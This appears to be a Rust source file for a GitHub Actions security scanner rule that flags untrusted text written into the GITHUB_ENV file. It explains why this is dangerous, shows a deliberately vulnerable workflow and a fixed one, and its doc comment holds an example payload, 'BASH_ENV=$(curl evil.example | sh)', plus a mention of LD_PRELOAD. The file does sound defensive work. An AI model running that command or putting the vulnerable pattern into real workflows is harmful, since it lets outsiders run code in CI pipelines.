//! Somebody else's text sets environment variables of later steps.

use cofferdam_flows::SinkKind;
use cofferdam_workflows::documents::{Action, Workflow};

use crate::context::Context;
use crate::file_writes::{self, FileRule};
use crate::rule::{Rule, Sink};

crate::rule! {
    /// # What
    /// A script writes text that somebody else shapes into the file behind
    /// `GITHUB_ENV`, in a way that lets the text add lines of its own.
    ///
    /// # Why
    /// Every line of that file is a variable of all later steps. A body with
    /// the line `BASH_ENV=$(curl evil.example | sh)` or with `LD_PRELOAD=…` runs
    /// code in the next step, although no script splices the text in.
    ///
    /// # Vulnerable
    /// ```yaml
    /// on:
    ///   issues:
    /// permissions:
    ///   contents: write
    /// jobs:
    ///   note:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - env:
    ///           BODY: ${{ github.event.issue.body }}
    ///         run: echo "BODY=$BODY" >> "$GITHUB_ENV"
    ///       - run: ./note
    /// ```
    ///
    /// # Fixed
    /// ```yaml
    /// on:
    ///   issues:
    /// permissions:
    ///   contents: write
    /// jobs:
    ///   note:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: ./note
    ///         env:
    ///           BODY: ${{ github.event.issue.body }}
    /// ```
    /// Where the file is needed, write a block whose delimiter is made up in
    /// the same step, as in `DELIMITER=$(openssl rand -hex 16)`.
    ///
    /// # How it is decided
    /// Scripts are parsed: redirections into the file, `tee`, here-documents
    /// and groups of commands. What is written is followed to its source as in
    /// `template-injection`. A line `NAME=VALUE` is dangerous only with a value
    /// that can hold a line break (bodies, commit messages, files of an
    /// artifact; titles and branches cannot), a block only where its delimiter
    /// stands in the script. A whole file or a name that somebody else decides
    /// is dangerous with any text, and so is a variable by which programs load
    /// code. Values that GitHub itself splices into the script are reported by
    /// `template-injection` alone. The severity is that of foreign code in the
    /// job, and low where no step follows.
    ///
    /// zizmor's `github-env` reports every dynamic write on a few events,
    /// whoever shapes it; CodeQL's `EnvVarInjection` follows values too;
    /// octoscan's `dangerous-write` matches text.
    ///
    /// # References
    /// - <https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands>
    /// - <https://github.blog/changelog/2023-10-05-github-actions-node_options-is-now-restricted-from-github_env/>
    /// - <https://www.legitsecurity.com/blog/github-privilege-escalation-vulnerability-0>
    pub struct EnvFileInjection {
        id: "env-file-injection",
        title: "Somebody else's text sets environment variables of later steps",
        severity: Critical,
        controls: [X2],
        peers: [
            "zizmor/github-env",
            "octoscan/dangerous-write",
            "codeql/EnvVarInjection",
            "sisakulint/envvar-injection",
            "gato-x/EnvironmentPollutionResult",
        ],
        standards: [
            Cwe::Cwe454,
            Scorecard::DangerousWorkflow,
            Osps::Br0101,
            Osps::Br0104,
            StepSecurity::ScriptInjection,
        ],
    }
}

const RULE: FileRule = FileRule {
    info: EnvFileInjection::INFO,
    kind: SinkKind::EnvironmentFile,
    consequence: "A line of its own sets `BASH_ENV` or `LD_PRELOAD` for the steps after it",
    fix: "Hand the value to the steps that need it by `env:`, or write it as a block with a \
          random delimiter",
    group: "scripts that let others set variables of later steps",
    lowered: 0,
};

impl Rule for EnvFileInjection {
    fn info(&self) -> &'static cofferdam_findings::RuleInfo {
        Self::INFO
    }

    fn workflow(&self, cx: &Context<'_>, workflow: &Workflow, out: &mut Sink) {
        file_writes::report(&RULE, cx, workflow.path(), out);
    }

    fn action(&self, cx: &Context<'_>, action: &Action, out: &mut Sink) {
        file_writes::report(&RULE, cx, action.path(), out);
    }
}
